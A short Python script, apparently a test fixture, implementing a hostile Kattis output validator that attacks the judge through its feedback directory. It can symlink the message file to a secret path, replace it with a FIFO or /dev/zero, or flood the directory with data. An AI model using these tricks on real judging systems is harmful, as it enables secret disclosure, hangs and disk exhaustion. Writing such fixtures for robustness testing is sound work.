"""A hostile Kattis output validator: attacks the judge through its feedback directory.

`validate input answer feedback_dir MODE [ARG]`, MODE one of:
  link PATH  judgemessage.txt becomes a symlink to PATH (a secret of the judge's user)
  fifo       judgemessage.txt becomes a FIFO (a reader that opens it blocks forever)
  zero       judgemessage.txt becomes a symlink to /dev/zero (a reader never reaches the end)
  flood MIB  write MIB MiB into the feedback directory, many files, ignoring errors
Exits 43 (reject) after the attack.
"""

import os
import sys

feedback, mode = sys.argv[3], sys.argv[4]
message = os.path.join(feedback, "judgemessage.txt")
if mode == "link":
    os.symlink(sys.argv[5], message)
elif mode == "fifo":
    os.mkfifo(message)
elif mode == "zero":
    os.symlink("/dev/zero", message)
elif mode == "flood":
    block = b"x" * (1 << 20)
    left = int(sys.argv[5])
    index = 0
    while left > 0:
        try:
            with open(os.path.join(feedback, f"flood{index}.bin"), "wb") as f:
                for _ in range(min(left, 16)):
                    f.write(block)
                    left -= 1
        except OSError:
            left -= 16
        index += 1
sys.exit(43)
